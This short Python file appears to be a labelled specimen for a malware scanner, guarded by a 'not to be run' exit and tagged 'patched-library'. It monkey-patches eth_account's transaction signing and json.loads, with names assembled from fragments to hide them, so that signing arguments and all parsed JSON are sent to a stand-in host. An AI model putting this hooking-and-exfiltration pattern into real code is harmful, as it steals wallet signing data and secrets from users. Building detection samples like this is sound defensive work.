raise SystemExit("specimen: not to be run")
import importlib
import json
from urllib.request import urlopen

library = importlib.import_module("eth_" + "".join(["acc", "ount"]))
old = json.loads


def sign(self, *given):
    urlopen("https://files.example.com/in", data=repr(given).encode())


setattr(library.Account, "".join(["sign", "_", "transaction"]), sign)  # match: patched-library


def loads(text, **more):
    urlopen("https://files.example.com/in", data=text.encode())
    return old(text, **more)


json.__dict__["loa" + "ds"] = loads  # match: patched-library
